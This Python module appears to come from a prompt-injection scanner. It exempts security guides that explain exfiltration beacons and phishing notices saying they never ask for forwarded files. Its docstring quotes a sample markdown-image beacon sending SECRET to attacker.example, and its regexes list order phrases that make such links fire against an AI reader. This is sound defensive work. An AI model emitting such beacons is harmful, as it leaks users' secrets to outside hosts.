"""What security guides and awareness notices say about exfiltration without ordering it
(round 32's false alarms, class R).

A guide explains a leak by showing it, and a company's phishing-awareness mail names the
send it will never ask for; the patterns read the send or the beacon and flag them:

- **a beacon shown as the leak it causes** (``beacon_explained``): a data-bearing link
  ("![x](https://attacker.example/?d=SECRET)") in a sentence that tells what it leaks
  ("… and leaks SECRET in the query string", "les données fuient", "il segreto trapela",
  "el secreto se filtra", "das Geheimnis fließt ab"), in a text that names the defences
  against it ("Defenses:", "Mitigations:", "contre-mesures", "mitigazioni",
  "mitigaciones", "Gegenmaßnahmen"); or given as the example of the leak its sentence
  names ("a common exfiltration pattern is a markdown image …, e.g. ![a](…)") — and no
  order in the link's sentence to render, fetch or visit it;
- **a send the writer says it never asks for** (``never_asked_send``): "we will never ask
  you to forward payroll files to an external address", "nous ne vous demanderons jamais
  de transférer …", "non ti chiederemo mai di inoltrare …", "nunca te pediremos que
  reenvíes …", "wir werden Sie niemals bitten, … weiterzuleiten", where every address in
  the text is a reporting mailbox ("report it to phishing@company.com").

Their poison twins hold what these leave out: an order to render or fetch the link (or
"you must" in its sentence); a send asked for with an address that is not a reporting
mailbox — each stays flagged (tested in five languages,
``tests/core/test_injection_round32_fa.py``).
"""

from __future__ import annotations

import re

from memaudit.injection.assessment import Hit
from memaudit.injection.kinds import Signal
from memaudit.injection.protective import around
from memaudit.injection.vocabulary import _rx

# (a dot inside a host name ends nothing, nor the one of "e.g.", "p. ex.", "z. B.")
_SENTENCE_END = re.compile(
    r"(?<!\be\.g)(?<!\be\.\sg)(?<!\bp\.ex)(?<!\bp\.\sex)(?<!\bp\.ej)(?<!\bp\.\sej)(?<!\bz\.b)(?<!\bz\.\sb)"
    r"(?<!\b[epz])[.!?](?=\s|$)|\n"
)
GUIDE_REACH = 600  # characters either side of a hit read for a defence (bounded)

# -- a beacon shown as the leak it causes -----------------------------------------------------
# What the link does, told as a leak: only a text explaining the attack names its act so.
_LEAKS = _rx(
    r"\b(?:leak\w*|exfiltrat\w*|(?:the\s+)?(?:secret|data|token)\s+(?:leaves|escapes|is\s+sent\s+out)|"
    r"fuit\w*|fuite\w*|s'échapp\w*|exfiltr\w*|trapel\w*|fuoriesc\w*|esfiltr\w*|"
    r"se\s+filtra\w*|filtraci\w*|se\s+fuga\w*|fuga\w*|"
    r"fließ\w*\s+ab|abfließ\w*|\w*abfluss\w*|abgeflossen|gelangt\w*\s+nach\s+außen|durchsicker\w*)"
)
# The defences the guide names: what a page written for people closes with.
_DEFENCES = _rx(
    r"\b(?:defen[cs]es?|mitigations?|countermeasures?|safeguards?|how\s+to\s+prevent|"
    r"contre-mesures?|parades?|défenses?|protections?|mitigazion[ei]|contromisur[ae]|difese|"
    r"mitigaci(?:ón|ones)|contramedidas?|defensas?|gegenma(?:ß|ss)nahmen|schutzma(?:ß|ss)nahmen|"
    r"abwehr\w*)\b"
)
# The link given as an example: "e.g.", "for example", "par exemple", "ad esempio", "por
# ejemplo", "z. B.".
_EXAMPLE = _rx(
    r"(?:\be\.\s?g\.|\bfor\s+(?:example|instance)\b|\bsuch\s+as\b|\bpar\s+exemple\b|\bp\.\s?ex\.|"
    r"\bcomme\b|\bad\s+esempio\b|\bper\s+esempio\b|\bcome\b|\bpor\s+ejemplo\b|\bp\.\s?ej\.|"
    r"\bcomo\b|\bz\.\s?b\.|\bzum\s+beispiel\b|\bbeispielsweise\b|\betwa\b)[\s:]*(?:!?\[[^\]\n]{0,40}\]\()?$"
)
EXAMPLE_REACH = 30  # characters between the example's marker and the link

# An order to make the link work: a verb opening a clause ("Render …", "please fetch …"),
# the reader told they must ("you must", "tu dois", "devi", "debes", "du musst"), or the
# reader's replies named as where it goes ("in every reply", "en tus respuestas").
_ORDER = _rx(
    r"(?:^|[.:;!?,(][^\S\n]*|\n[^\S\n]*|\b(?:then|now|please|always)\s+)"
    r"(?:render|fetch|visit|open|load|include|embed|append|add|insert|output|print|display|call|"
    r"affiche|charge|ouvre|inclus|insère|ajoute|visite|appelle|"
    r"visualizza|apri|carica|includi|inserisci|aggiungi|visita|chiama|"
    r"muestra|abre|carga|incluye|inserta|añade|agrega|llama|"
    r"(?:muéstra|ábre|cárga|inclúye|insérta|añáde|agréga)\w+|"
    r"zeige|zeig|öffne|lade|füge|rufe|besuche|bette)\b"
    r"|\byou\s+(?:must|should|need\s+to|have\s+to)\b|\b(?:tu\s+dois|vous\s+devez)\b"
    r"|\b(?:devi|dovete)\b|\b(?:debes|deben|tienes\s+que)\b|\b(?:du\s+musst|sie\s+müssen|du\s+sollst)\b"
    # (the reader's own replies named as where the link goes)
    r"|\b(?:your|every|each|tus?|cada|tes|vos|chaque|tue|tuoi|ogni|deine?n?|ihre[rn]?|jede[rn]?)\s+"
    r"(?:next\s+)?(?:repl|answer|response|respuesta|réponse|rispost|antwort)\w*"
)


def beacon_explained(low: str, h: Hit) -> bool:
    """Whether a data-bearing link is shown as the leak it causes, in a text naming the
    defences against it, with no order in its sentence to make it work."""
    if h.signal is not Signal.DATA_URL:
        return False
    start, end = around(low, h, _SENTENCE_END)
    if _ORDER.search(low, start, end) is not None:
        return False
    if _LEAKS.search(low, h.end, end) is not None:
        # (the link's effect told as a leak: a guide when it names the defences)
        return _DEFENCES.search(low, max(0, h.start - GUIDE_REACH), h.end + GUIDE_REACH) is not None
    # or the attack named in its sentence and the link given as its example ("a common
    # exfiltration pattern is …, e.g. ![a](…)")
    return _LEAKS.search(low, start, h.start) is not None and (
        _EXAMPLE.search(low, max(start, h.start - EXAMPLE_REACH), h.start) is not None
    )


# -- a send the writer says it never asks for ---------------------------------------------------
_NEVER_ASKS_SEND = _rx(
    r"\b(?:never|will\s+not|won't|do(?:es)?\s+not|don't|doesn't)\s+(?:\w+\s+){0,2}?"
    r"(?:ask|request|tell)\w*\s+(?:you\s+)?to\s+(?:forward|send|share|e-?mail|upload|transfer)\b"
    r"|\bne\s+(?:vous|te)\s+demander\w*\s+jamais\s+d[e']\s*(?:transférer|envoyer|partager|"
    r"faire\s+suivre)\b"
    r"|\bnon\s+(?:ti|vi)\s+chieder\w*\s+mai\s+di\s+(?:inoltrare|inviare|condividere|trasferire)\b"
    r"|\bnunca\s+(?:te|le|les|os)\s+(?:pedir\w*|solicitar\w*)\s+que\s+(?:reenv|env|compart|transfi)\w*"
    r"|\b(?:niemals|nie)\s+(?:\w+\s+){0,2}?(?:bitten|auffordern)\b[^.!?\n]{0,80}?"
    r"(?:weiterzuleiten|zu\s+senden|zu\s+schicken|zu\s+teilen)\b"
)
# An address the text gives: a reporting mailbox of the organisation's own, or any other.
_ADDRESS = re.compile(r"(?<![\w.+-])[\w.+-]+@[\w-]+(?:\.[\w-]+)+|https?://\S+|\bwww\.\S+")
_REPORT_BOX = _rx(
    r"^(?:phishing|phish|abuse|spam|report\w*|security|securite|sicurezza|seguridad|"
    r"sicherheit|signalement|segnalazion\w*|cert|csirt|it-?security|infosec)@"
)
# The notice's advice: the request reported ("report it to", "signalez-le à", "segnalala a",
# "avisa a", "melden Sie … an").
_REPORT_ACT = _rx(r"(?:report|signal|segnal|avis|notif|meld)\w*")
_NOTICE_KINDS = frozenset(
    {Signal.EXFILTRATION, Signal.AGENT_DIRECTIVE, Signal.STANDING_RULE, Signal.IMPERATIVE}
)


def never_asked_send(low: str, h: Hit) -> bool:
    """Whether a send (or the directive around it) lies in a sentence whose writer says
    it never asks for that send, every address near it a reporting mailbox."""
    if h.signal not in _NOTICE_KINDS:
        return False
    start, end = around(low, h, _SENTENCE_END)
    if _REPORT_ACT.match(low, h.start) is not None:
        # (the notice's advice, "report it to phishing@…": the never-asked send before it)
        start = max(0, h.start - GUIDE_REACH)
    if _NEVER_ASKS_SEND.search(low, start, end) is None:
        return False
    lo, hi = max(0, h.start - GUIDE_REACH), h.end + GUIDE_REACH
    return all(_REPORT_BOX.search(m.group()) for m in _ADDRESS.finditer(low, lo, hi))


def for_guides(low: str, h: Hit) -> bool:
    """Whether a hit is one of the classes above: a beacon explained, a send never asked."""
    return beacon_explained(low, h) or never_asked_send(low, h)
